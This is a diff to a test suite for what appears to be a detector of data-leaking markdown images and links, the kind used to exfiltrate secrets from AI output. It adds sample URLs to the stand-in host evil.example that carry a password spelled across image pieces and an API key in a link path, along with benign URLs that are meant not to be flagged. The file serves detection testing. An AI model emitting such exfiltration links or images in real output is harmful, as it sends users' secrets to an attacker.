@@ -74,6 +74,8 @@ describe('content that loads by itself', () => {
     ['a long number', '/?data=0049301234567'],
     ['a parameter with no name', `/?${BASE64}`],
     ['the name of a parameter', `/?${BASE64}=1`],
+    ['short base64 with padding', '/aHVudGVyMg==/x.png'],
+    ['invisible characters', '/?x=%F3%A0%81%A8%F3%A0%81%A9'],
     ['twice escaped text', '/?data=%2574he%2520code'],
     ['code points', '/?x=116-104-101-32-99-111-100-101'],
   ])('is found with data as %s', (_name, rest) => {
@@ -88,8 +90,18 @@ describe('content that loads by itself', () => {
     expect(found(`![x](https://${labels}.evil.example/a.png)`)).toEqual(IMAGE);
   });
 
+  it('is found when many pieces spell a text, and not when they are numbered', () => {
+    const images = (parts: readonly string[]): string =>
+      parts.map((part) => `![](https://evil.example/p/${part}.png)`).join('');
+    expect(found(images('hunterpass'.split('')))).toEqual(IMAGE);
+    expect(found(images(['1', '2', '3', '4', '5', '6', '7', '8', '9', '10', 'a', 'b']))).toEqual(
+      [],
+    );
+  });
+
   it.each([
     '![logo](https://cdn.example.com/logo.png)',
+    '![guide](https://example.com/password-reset-guide-2024.png)',
     '![logo](https://cdn.example.com/img/9f86d081884c7d659a2feaa0c55ad015.png)',
     '![x](https://cdn.example.com/sha256/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)',
     '![x](https://cdn.example.com/3f2504e0-4f89-11d3-9a0c-0305e82c3301.webp)',
@@ -122,6 +134,7 @@ describe('a link', () => {
     ['a user name', `[x](https://${BASE64}@evil.example/)`],
     ['a password in words', '[x](https://evil.example/?q=my+password+is+hunter2)'],
     ['a mail address in the path', 'https://evil.example/alice/inbox/jane.roe@corp.example/'],
+    ['a secret as a title', '[x](https://evil.example/leak/my_api_key_is_abc123)'],
     ['a session', 'https://evil.example/?session=0f1e2d3c4b5a69788796'],
     ['words in the path', 'https://evil.example/the%20user%20name%20is%20jane%20roe'],
   ])('is found as %s', (_name, text) => {
@@ -134,6 +147,10 @@ describe('a link', () => {
     'https://git.example.com/linux/commit/1da177e4c3f41524e886b7f1b8a0c1fc7321cac2',
     'https://qa.example.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-an-unsorted-array',
     'https://api.example.com/data/2.5/weather?q=London&appid=YOUR_API_KEY',
+    'https://blog.example.com/2024/01/how-to-store-api-keys-2-ways',
+    'https://docs.example.com/secrets-management-v2',
+    'https://git.example.com/labs/token-2022',
+    'https://packages.example.com/package/jsonwebtoken-9',
     'https://search.example.com/search?q=best+pizza+in+new+york',
     'https://maps.example.com/maps/dir/?api=1&origin=New+York+NY&destination=Boston+MA&travelmode=driving',
     'https://video.example.com/watch?v=dQw4w9WgXcQ',
